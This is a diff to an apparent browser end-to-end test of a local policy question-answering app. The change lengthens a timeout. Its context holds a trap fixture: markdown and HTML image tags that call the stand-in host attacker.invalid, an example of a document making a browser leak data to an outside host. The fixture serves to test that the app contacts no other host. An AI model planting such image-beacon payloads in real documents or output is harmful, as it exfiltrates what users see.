@@ -32,7 +32,7 @@ QUIET = (
     # Whatever the page asks for, this browser finds nobody but this machine.
     f"--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE {ADDRESS}",
 )
-PATIENCE = 60_000  # milliseconds: the first answer waits for the models to load
+PATIENCE = 120_000  # milliseconds: the first answer waits for the models to load
 
 # A document that tries to make the reader's browser tell a stranger what it shows.
 TRAP = "![x](http://attacker.invalid/?q=burn) <img src='http://attacker.invalid/i'>"
@@ -75,7 +75,9 @@ def test_ask_upload_and_read_the_log_without_a_word_to_any_other_host(
         page.goto(f"http://{ADDRESS}:{port}")
 
         _ask(page, "How long must hands be rubbed with alcohol?")
-        expect(page.get_by_text("Answered here · extracted passages")).to_be_visible()
+        expect(page.get_by_text("Answered here · extracted passages")).to_be_visible(
+            timeout=PATIENCE
+        )
         expect(page.get_by_text("policies/hand-hygiene.md")).to_be_visible()
         page.get_by_role("button", name="Open [1]").click()
         expect(page.get_by_role("dialog").locator("mark")).to_contain_text("60 seconds")
